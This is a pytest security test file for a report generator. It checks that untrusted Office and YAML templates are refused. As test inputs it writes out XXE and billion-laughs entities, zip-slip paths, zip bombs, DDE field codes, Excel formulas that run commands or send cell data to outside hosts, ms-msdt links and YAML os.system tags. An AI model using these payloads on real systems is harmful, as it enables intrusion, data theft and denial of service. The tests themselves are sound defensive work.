"""A template from a stranger is data: what its package tries is refused, and nothing of it goes out."""

import io
import sys
import tracemalloc
import zipfile
import zlib
from pathlib import Path

import pytest
from format_check.format_check_builders import docx, related, with_part, xlsx

from reportgen.formats import Library, load
from reportgen.language.environment import make_environment
from reportgen.office.package import Member, Packed, read, write
from reportgen.render.excel import compile_workbook
from reportgen.render.word import compile_document
from reportgen.studio.format_check.run import check_format

LAUGHS = '<!DOCTYPE x [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'


def word_codes(data):
    return [f.code for f in compile_document(data, "表.docx", make_environment())[1]]


def excel_codes(data):
    return [f.code for f in compile_workbook(data, "表.xlsx", make_environment())[1]]


def part(data, name):
    return next(item.content.decode() for item in read(data) if item.name == name)


def zipped(*names_and_bytes):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in names_and_bytes:
            made.writestr(name, content)
    return out.getvalue()


@pytest.mark.parametrize("declaration", [LAUGHS, OUTSIDE])
@pytest.mark.parametrize(
    "name", ["word/document.xml", "[Content_Types].xml", "word/_rels/document.xml.rels"]
)
def test_entities_in_a_word_part_are_refused(name, declaration):
    content = part(docx("甲"), name).split("?>", 1)[-1]
    assert word_codes(with_part(docx("甲"), name, declaration + content)) == ["R760"]


@pytest.mark.parametrize("declaration", [LAUGHS, OUTSIDE])
@pytest.mark.parametrize("name", ["xl/workbook.xml", "xl/worksheets/sheet1.xml", "xl/styles.xml"])
def test_entities_in_an_excel_part_are_refused(name, declaration):
    content = part(xlsx(A1="甲"), name).split("?>", 1)[-1]
    assert excel_codes(with_part(xlsx(A1="甲"), name, declaration + content)) == ["R701"]


@pytest.mark.parametrize("name", ["../../evil.xml", "/etc/evil.xml", r"..\evil.xml", "c:/evil.xml"])
def test_a_part_that_stands_outside_the_package_is_refused(name):
    members = [(item.name, item.content) for item in read(docx("甲"))]
    assert word_codes(zipped(*members, (name, b"x"))) == ["R760"]
    members = [(item.name, item.content) for item in read(xlsx(A1="甲"))]
    assert excel_codes(zipped(*members, (name, b"x"))) == ["R701"]


def test_a_bomb_is_refused_before_it_is_unpacked():
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = b"".join(deflater.compress(bytes(2**20)) for _ in range(600)) + deflater.flush()
    bomb = Member("word/media/a.png", (), Packed(packed, 0, 600 * 2**20))
    data = write([*read(docx("甲")), bomb])
    assert len(data) < 2**20
    tracemalloc.start()
    try:
        assert word_codes(data) == ["R760"]
        assert tracemalloc.get_traced_memory()[1] < 50_000_000
    finally:
        tracemalloc.stop()


def test_a_part_that_unpacks_to_more_than_it_says_is_refused():
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = deflater.compress(bytes(50 * 2**20)) + deflater.flush()
    kept = [item for item in read(docx("甲")) if item.name != "word/document.xml"]
    data = write([*kept, Member("word/document.xml", (), Packed(packed, 0, 100))])
    tracemalloc.start()
    try:
        assert word_codes(data) == ["R760"]
        assert tracemalloc.get_traced_memory()[1] < 20_000_000
    finally:
        tracemalloc.stop()


def test_deep_xml_is_refused():
    deep = "<w:p>" * 5000 + "</w:p>" * 5000
    space = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    content = f"<w:document {space}><w:body>{deep}</w:body></w:document>"
    assert word_codes(with_part(docx("甲"), "word/document.xml", content)) == ["R760"]


@pytest.mark.parametrize(
    "kind", ["image", "oleObject", "attachedTemplate", "frame", "subDocument", "mailMergeSource",
             "video", "externalLink", "anything"],
)  # fmt: skip
def test_no_relation_leads_out_of_a_word_template(kind):
    owner = "word/settings.xml" if kind == "attachedTemplate" else "word/document.xml"
    assert word_codes(related(docx("甲"), owner, kind, "https://a.cn/x")) == ["R761"]


@pytest.mark.parametrize(
    "target", ["file:///c:/x", r"\\a.cn\share", "../../x.docx", "javascript:alert(1)", "ftp://a.cn",
               "ms-msdt:/id", "http:\\\\a.cn\\x"],
)  # fmt: skip
def test_links_lead_to_pages_and_mail_only(target):
    assert word_codes(related(docx("甲"), "word/document.xml", "hyperlink", target)) == ["R761"]
    for good in ("https://a.cn/x?y=1", "mailto:a@a.cn"):
        assert word_codes(related(docx("甲"), "word/document.xml", "hyperlink", good)) == []


@pytest.mark.parametrize("kind", ["oleObject", "control", "aFChunk"])
def test_embedded_objects_and_controls_are_refused(kind):
    data = with_part(docx("甲"), "word/embeddings/a.bin", "x")
    added = related(data, "word/document.xml", kind, "embeddings/a.bin", outside=False)
    assert word_codes(added) == ["R761"]


FIELDS = [
    "DDEAUTO c:\\\\x cmd", "DDE excel x", "INCLUDETEXT c:\\\\x", "INCLUDEPICTURE http://a.cn",
    "LINK Excel.Sheet.8 x", "DATABASE \\\\d x", "IMPORT x", "RD x", "MACROBUTTON x y", "AUTOTEXT x",
]  # fmt: skip


@pytest.mark.parametrize("code", FIELDS)
@pytest.mark.parametrize("written", ["one", "split", "simple", "other prefix"])
def test_fields_that_fetch_or_start_something_are_refused(code, written):
    half = len(code) // 2
    run = "<w:r><w:instrText>{}</w:instrText></w:r>"
    xml = {
        "one": f"<w:p>{run.format(code)}</w:p>",
        "split": f"<w:p>{run.format(code[:2])}{run.format(code[2:])}</w:p>",
        "simple": f"<w:p><w:fldSimple w:instr='{code}'/></w:p>",
        "other prefix": '<x:p xmlns:x="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<x:r><x:instrText>PAGE</x:instrText></x:r>"
        f"<x:r><x:instrText>{code}</x:instrText></x:r></x:p>",
    }[written]
    del half
    assert word_codes(docx("甲", xml=xml)) == ["R761"]


@pytest.mark.parametrize(
    "code", ["PAGE", "NUMPAGES", 'TOC \\o "1-3"', "HYPERLINK \\l 附件", "REF a"]
)
def test_ordinary_fields_stay(code):
    assert word_codes(docx(xml=f"<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>")) == []


@pytest.mark.parametrize(
    "formula",
    ['=WEBSERVICE("http://a.cn")', "=FILTERXML(A1,B1)", '=_xlfn.WEBSERVICE("http://a.cn")',
     '=HYPERLINK("http://a.cn/?"&B1,"看")', '=RTD("a",,"b")', '=CALL("kernel32","x","y")',
     "=cmd|'/c calc'!A0", "=MSEXCEL|'\\..\\x'!''", "=[1]表!A1", "='c:\\[x.xlsx]表'!A1",
     '=IMAGE("http://a.cn/x")', "=1+WEBSERVICE(A1)", '=REGISTER.ID("a","b")', "=SQL.REQUEST(A1)"],
)  # fmt: skip
def test_formulas_that_reach_outside_are_refused(formula):
    assert set(excel_codes(xlsx(A1=formula))) == {"R702"}


@pytest.mark.parametrize("formula", ['=HYPERLINK("#表!A1","看")', '=A2&"|a!"', "=SUM(A2:A3)"])
def test_ordinary_formulas_stay(formula):
    assert excel_codes(xlsx(A1=formula)) == []


def form(folder: Path, text: str, **files: str) -> Library:
    home = folder / "forms" / "test"
    home.mkdir(parents=True)
    (home / "format.yaml").write_text(text, "utf-8")
    for name, content in files.items():
        (home / f"{name}.yaml").write_text(content, "utf-8")
    (folder / "secret.docx").write_bytes(docx("机密"))
    return Library(folder / "forms")


@pytest.mark.parametrize("written", ["../../secret.docx", "{}/secret.docx", "..\\..\\secret.docx"])
def test_a_template_outside_the_folder_is_not_read(written, tmp_path):
    name = written.replace("{}", str(tmp_path))
    text = f"名称: 试验\n文档:\n- {{名称: 甲, 模板: '{name}', 输出: 甲.docx}}\n"
    found, findings = load(form(tmp_path, text), "test")
    assert found is not None
    assert not found.documents
    assert [f.code for f in findings] == ["F403"]


@pytest.mark.parametrize("written", ["../../etc", "/etc", "..", "a/../../b", "a\0b"])
def test_a_parent_outside_the_library_is_not_read(written, tmp_path):
    library = form(tmp_path, "名称: 试验\n")
    assert library.path(written) is None


def test_a_file_name_that_climbs_stays_in_the_pack(tmp_path):
    from reportgen.writer import safe_document_name

    for name in ("../../甲.docx", "/etc/甲.docx", "a/b/c/甲.docx", "..", "c:\\甲.docx"):
        safe = safe_document_name(name)
        assert ".." not in Path(safe).parts
        assert not Path(safe).is_absolute()
        assert len(Path(safe).parts) <= 2
    assert tmp_path.exists()


BOMB = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
    f"{b}: &{b} [{','.join(f'*{a}' for _ in range(9))}]\n"
    for a, b in zip("abcdefgh", "bcdefghi", strict=True)
)


@pytest.mark.parametrize("name", ["format", "fields", "checks", "scoring", "phrases"])
def test_a_yaml_bomb_ends_in_a_finding(name, tmp_path):
    files = {"format": "名称: 试验\n", name: BOMB}
    library = form(tmp_path, files.pop("format"), **files)
    tracemalloc.start()
    try:
        checked = check_format(library, "test")
        assert tracemalloc.get_traced_memory()[1] < 200_000_000
    finally:
        tracemalloc.stop()
    assert any(f.place and f.place.file == f"test/{name}.yaml" for f in checked.findings)


@pytest.mark.parametrize(
    "text",
    ["!!python/object/apply:os.system [id]", "!!python/name:os.system", "!include /etc/passwd"],
)
def test_yaml_makes_no_objects(text, tmp_path):
    checked = check_format(form(tmp_path, f"名称: {text}\n"), "test")
    assert sys.modules.get("posix") is not None
    assert not any("uid=" in f.message or "root:" in f.message for f in checked.findings)
